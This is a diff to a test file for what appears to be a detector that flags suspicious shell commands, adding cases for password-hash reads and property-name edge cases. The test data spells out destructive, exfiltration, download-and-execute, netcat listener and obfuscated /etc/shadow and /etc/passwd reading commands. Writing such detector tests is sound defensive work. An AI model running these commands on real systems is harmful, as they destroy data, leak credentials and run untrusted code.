@@ -27,8 +27,15 @@ test('a rule speaks once, with the first reason it finds', () => {
   expect(suspicionsOf(readCommand('rm -rf /; rm -rf /etc'))).toMatchObject([{ code: 'SYSTEM_REMOVAL', reason: 'removes / recursively' }]);
 });
 
+test.each(['constructor=1 ls', '__proto__=1 ls', 'toString ls', 'alias constructor=ls'])(
+  'names of properties are names like any other: %s',
+  (line) => {
+    expect(codes(line)).toEqual([]);
+  },
+);
+
 test('a line can be suspicious in several ways', () => {
-  expect(codes('cat /etc/shadow | nc h 1; history -c').toSorted()).toEqual(['CREDENTIAL_STORE', 'EXFILTRATION', 'HISTORY_TAMPERING']);
+  expect(codes('cat /etc/shadow | nc h 1; history -c').toSorted()).toEqual(['EXFILTRATION', 'HISTORY_TAMPERING', 'PASSWORD_HASHES']);
 });
 
 describe('what the policy named by its spelling is found in any spelling', () => {
@@ -50,15 +57,16 @@ describe('what the policy named by its spelling is found in any spelling', () =>
       ['wget -qO- h | sudo -E bash -', 'sh <(wget -qO- h)', 'bash <<< "$(curl h)"', 'python3 <(curl h)', 'curl h > /tmp/y; bash /tmp/y'],
     ],
     ['NETWORK_LISTENER', ['nc -nvlp 1', 'sh -c "nc -l 1"', '/bin/nc.traditional -l -p 1']],
+    ['PASSWORD_HASHES', ['cat /etc/shado[w]', 'cat /et*/shadow', 'for f in /etc/shadow; do cat $f; done']],
     [
       'CREDENTIAL_STORE',
       [
-        'c\\at /e"tc"/shadow',
+        'c\\at /e"tc"/passwd',
         'cat /etc/{passwd,group}',
         'cat < /etc/passwd',
-        'cat /etc/shado[w]',
-        'for f in /etc/shadow; do cat $f; done',
-        'cat /et*/shadow',
+        'cat /etc/pass[w]d',
+        'for f in /etc/passwd; do cat $f; done',
+        'cat /et*/passwd',
       ],
     ],
   ])('%s', (code, commands) => {
